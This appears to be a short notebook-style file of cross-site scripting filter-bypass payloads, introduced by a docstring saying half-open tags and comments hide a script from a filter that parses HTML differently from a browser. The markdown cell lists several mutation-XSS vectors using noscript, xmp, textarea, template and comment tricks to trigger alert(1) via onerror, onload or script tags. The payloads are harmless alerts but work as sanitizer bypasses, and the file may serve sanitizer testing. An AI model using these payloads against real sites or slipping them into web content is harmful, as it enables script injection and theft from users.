"""Half-open tags and comments hide a script from a filter that reads otherwise than a browser.

gains: live
"""

# %% [markdown]
# <noscript><p title="</noscript><img src=x onerror=alert(1)>"><!--><script>alert(1)</script>--><xmp><p title="</xmp><svg/onload=alert(1)>">
# <template><script>alert(1)</script></template><textarea><p title="</textarea><img src=x onerror=alert(1)>">
